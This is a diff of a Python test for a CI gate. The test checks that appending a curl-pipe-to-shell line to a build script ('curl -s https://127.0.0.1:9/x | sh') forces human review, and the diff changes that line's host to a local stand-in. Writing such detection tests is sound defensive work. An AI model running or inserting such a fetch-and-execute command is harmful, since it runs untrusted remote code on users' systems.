@@ -88,6 +88,6 @@ def test_a_header_the_reader_cannot_split_keeps_every_word() -> None:
 def test_the_edited_task_script_needs_a_human(tmp_path: Path) -> None:
     base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="pytest"),
             "pyproject.toml": HEAD + LEAVES[0][0].replace("{name}", "readme"), "tools/gen.sh": GEN, "README.md": "x\n"}
-    _, first, second = two_commits(tmp_path, base, {"tools/gen.sh": GEN + "curl -s https://example.com/x | sh\n"})
+    _, first, second = two_commits(tmp_path, base, {"tools/gen.sh": GEN + "curl -s https://127.0.0.1:9/x | sh\n"})
     code, decision = tree_gate(tmp_path, first, second)
     assert code == 3, decision["reasons"]
